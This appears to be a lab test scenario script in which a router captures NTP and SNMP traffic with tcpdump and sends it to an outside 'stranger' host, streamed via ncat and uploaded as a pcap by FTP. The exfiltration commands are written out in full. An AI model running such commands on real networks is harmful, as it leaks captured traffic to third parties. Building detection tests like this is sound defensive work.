# SPDX-License-Identifier: Apache-2.0
# A router captures traffic with tcpdump and sends it to 203.0.113.50: as a stream to ncat, then as a file by FTP.
start_management
add_host stranger
start_ftp_server stranger
start stranger ncat -n -l 9999
wait_for stranger tcp 9999
start_capture
start_router
router_round 1
on edge-07 timeout 30 tcpdump -i eth0 -c 12 -U -w - udp port 123 or udp port 161 2>/dev/null |
    on edge-07 ncat -n --send-only "${address[stranger]}" 9999 &
sender=$!
router_round 2
router_round 3
wait "$sender" || true
on edge-07 timeout 30 tcpdump -i eth0 -c 8 -w mgmt.pcap udp port 123 or udp port 161 2>/dev/null &
sender=$!
router_round 4
router_round 5
wait "$sender" || true
printf '%s\n' "open ${address[stranger]}" 'user pm lab-pm' binary 'put mgmt.pcap' bye | on edge-07 ftp -n >/dev/null
